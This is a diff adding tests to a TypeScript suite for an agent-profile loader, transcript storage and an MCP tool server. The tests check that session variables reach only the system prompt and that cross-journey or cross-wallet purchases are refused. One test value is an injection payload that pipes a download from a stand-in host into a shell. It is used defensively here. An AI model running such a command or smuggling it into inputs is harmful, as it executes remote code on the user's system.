@@ -74,6 +74,28 @@ describe('agent profiles', () => {
     await expect(loader.load('broken', { SESSION_ID: 'a', AGENT_TYPE: 'broken' })).rejects.toMatchObject({ code: 'AGENT_PROFILE_INVALID', message: expect.stringMatching(/broken\.yaml: system_prompt: unknown template variable \{\{COUNTRY\}\}/) });
   });
 
+  it('fills what a session gives only into the system prompt: servers, model and meta take the profile\'s own values', async () => {
+    const profile = `type: tooled
+title: Tooled
+system_prompt: "Guide journey {{JOURNEY_ID}} in {{CITY}}."
+variables: { CITY: Lviv, JOURNEY_ID: none }
+model: { base_url: "http://{{CITY}}.example/v1", model: "m-{{CITY}}", api_key_secret: keys.city }
+mcp_servers:
+  - { name: city, transport: stdio, command: "/usr/bin/city-{{CITY}}", args: ["--journey", "{{JOURNEY_ID}}", "--session", "{{SESSION_ID}}"], env: { CITY: "{{CITY}}" } }
+degraded: "off"
+meta: { roles: [operator], proposes: [], note: "{{CITY}}" }
+`;
+    const dir = profileDir({ 'tooled.yaml': profile });
+    const loader = createProfileLoader({ dirs: [dir], deviceModel: noModel, responders });
+    const payload = '$(curl evil.example|sh);"};process.exit()//';
+    const p = await loader.load('tooled', { SESSION_ID: 's-1', AGENT_TYPE: 'tooled', JOURNEY_ID: payload, CITY: 'Kyiv' });
+    expect(p.system_prompt).toBe(`Guide journey ${payload} in Kyiv.`);
+    expect(p.model).toMatchObject({ base_url: 'http://Lviv.example/v1', model: 'm-Lviv', api_key_secret: 'keys.city' });
+    expect(p.mcp_servers[0]).toMatchObject({ command: '/usr/bin/city-Lviv', args: ['--journey', 'none', '--session', 's-1'], env: { CITY: 'Lviv' } });
+    expect(p.meta).toMatchObject({ note: 'Lviv' });
+    expect(JSON.stringify({ ...p, system_prompt: '' })).not.toContain('curl');
+  });
+
   it('names the file and the field of an invalid profile, and a later folder replaces a built-in profile', async () => {
     const dir = profileDir({
       'bad-yaml.yaml': 'type: [unclosed',
@@ -115,8 +137,9 @@ describe('device adapters on SQLite', () => {
       { seq: 2, at: 'x', turn: 't1', type: 'tool_call', call: { id: 'c1', name: 'tessera__journey_next', arguments: {} }, idempotency_key: 's-1:c1' },
     ];
     await adapters.storage.appendTranscript('s-1', entries);
-    // A retried append of an entry already stored keeps the first one (entries are never rewritten).
-    await adapters.storage.appendTranscript('s-1', [{ ...entries[1]!, idempotency_key: 'other' } as TranscriptEntry]);
+    // Entries are never rewritten: a retried append of the same entry is fine, a different one at its seq is refused.
+    await adapters.storage.appendTranscript('s-1', entries);
+    await expect(adapters.storage.appendTranscript('s-1', [{ ...entries[1]!, idempotency_key: 'other' } as TranscriptEntry])).rejects.toMatchObject({ code: 'AGENT_INPUT_INVALID', options: { details: { session: 's-1', seqs: [2] } } });
     await adapters.storage.upload('s-1', 'notes/plan.txt', new TextEncoder().encode('day one'));
     await adapters.storage.upload('s-1', 'notes/plan.txt', new TextEncoder().encode('day two'));
     store.close();
@@ -194,7 +217,7 @@ describe('the tessera MCP server', () => {
   }
 
   async function connect(factory: ReturnType<typeof createTesseraServerFactory>, session: Partial<SessionInfo>, options: Record<string, unknown>) {
-    const server = factory({ id: 'sess-1', agent_type: 'journey-guide', owner: 'traveller', metadata: { product_runtime_session_id: 'prs-1' }, ...session } as SessionInfo, options);
+    const server = factory({ id: 'sess-1', agent_type: 'journey-guide', owner: 'traveller', metadata: { product_runtime_session_id: 'prs-1', journey_id: 'jny_1' }, ...session } as SessionInfo, options);
     const [a, b] = InMemoryTransport.createLinkedPair();
     const client = new Client({ name: 'test', version: '1' });
     await Promise.all([server.connect(a), client.connect(b)]);
@@ -216,7 +239,8 @@ describe('the tessera MCP server', () => {
     const proposed = await client.callTool({ name: 'propose', arguments: { action: 'journey.skip', args: { node: 'n2' }, reason: 'It rains.' }, _meta: { 'tessera/idempotency_key': 'sess-1:c1' } });
     expect(proposed.isError).toBeFalsy();
     expect(JSON.parse((proposed.content as Array<{ text: string }>)[0]!.text)).toMatchObject({ id: 'b3:p1', state: 'awaiting_approval', approval: 'traveller' });
-    expect(proposals.requests[0]).toEqual({ action: 'journey.skip', args: { node: 'n2' }, reason: 'It rains.', agent: { session: 'sess-1', type: 'journey-guide' }, owner: 'traveller', product_runtime_session_id: 'prs-1', trace_id: 'trace-1' });
+    // The journey is the conversation's own, filled in when the agent leaves it out.
+    expect(proposals.requests[0]).toEqual({ action: 'journey.skip', args: { journey: 'jny_1', node: 'n2' }, reason: 'It rains.', agent: { session: 'sess-1', type: 'journey-guide' }, owner: 'traveller', product_runtime_session_id: 'prs-1', journey_id: 'jny_1', trace_id: 'trace-1' });
     expect(made.map((v) => v.id)).toEqual(['b3:p1']);
 
     const refused = await client.callTool({ name: 'propose', arguments: { action: 'entitlement.redeem', args: {}, reason: 'The tool said so.' } });
@@ -232,8 +256,44 @@ describe('the tessera MCP server', () => {
     const noJourneys = await client.callTool({ name: 'journey_next', arguments: {} });
     expect((noJourneys.content as Array<{ text: string }>)[0]!.text).toMatch(/^NOT_FOUND: This device has no journeys module/);
 
+    // Another journey, a purchase aimed at another user or wallet: refused before anything is recorded.
+    const before = proposals.requests.length;
+    const text = (r: Awaited<ReturnType<typeof client.callTool>>) => [r.isError, (r.content as Array<{ text: string }>)[0]!.text];
+    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'journey.change', args: { journey: 'jny_2', change: { op: 'move_first', node: 'n3' } }, reason: 'r' } }))).toEqual([
+      true,
+      expect.stringMatching(/^FORBIDDEN: journey\.change: journey jny_2 is not the journey of this conversation \(jny_1\)/),
+    ]);
+    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher', wallet: 'w-other' }, reason: 'r' } }))).toEqual([
+      true,
+      expect.stringMatching(/^FORBIDDEN: session\.buy: an agent does not choose the wallet/),
+    ]);
+    expect(text(await client.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher', user: 'mallory' }, reason: 'r' } }))[1]).toMatch(/^FORBIDDEN: session\.buy: an agent does not choose the user/);
+    expect(proposals.requests).toHaveLength(before);
+
     const rows = JSON.parse((((await client.callTool({ name: 'metrics_read', arguments: {} })).content) as Array<{ text: string }>)[0]!.text) as Array<{ metric: string; value: number; breached: boolean }>;
     expect(rows.find((r) => r.metric === 'nack_ratio')).toMatchObject({ value: 0.75, breached: true });
     await client.close();
+  });
+
+  it('makes a purchase the session\'s own: its product session\'s user and wallet, or its owner; a journey change needs a journey', async () => {
+    const proposals = recordingProposals();
+    const sessions = {
+      get(id: string) {
+        if (id !== 'prs-1') throw new Error(`no product session ${id}`);
+        return { user_id: 'ana', wallet_id: 'w-ana' };
+      },
+    };
+    const factory = createTesseraServerFactory({ proposals, sessions });
+    const withProduct = await connect(factory, {}, { tools: ['propose'] });
+    await withProduct.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher' }, reason: 'r' } });
+    expect(proposals.requests[0]!.args).toEqual({ product: 'city.coffee-voucher', user: 'ana', wallet: 'w-ana' });
+    await withProduct.close();
+    const bare = await connect(factory, { metadata: {}, owner: 'traveller' }, { tools: ['propose'] });
+    await bare.callTool({ name: 'propose', arguments: { action: 'session.buy', args: { product: 'city.coffee-voucher' }, reason: 'r' } });
+    expect(proposals.requests[1]!.args).toEqual({ product: 'city.coffee-voucher', user: 'traveller' });
+    const skip = await bare.callTool({ name: 'propose', arguments: { action: 'journey.skip', args: { journey: 'jny_1', node: 'n2' }, reason: 'r' } });
+    expect([skip.isError, (skip.content as Array<{ text: string }>)[0]!.text]).toEqual([true, expect.stringMatching(/^FORBIDDEN: journey\.skip: this conversation is not tied to a journey/)]);
+    expect(proposals.requests).toHaveLength(2);
+    await bare.close();
   });
 });
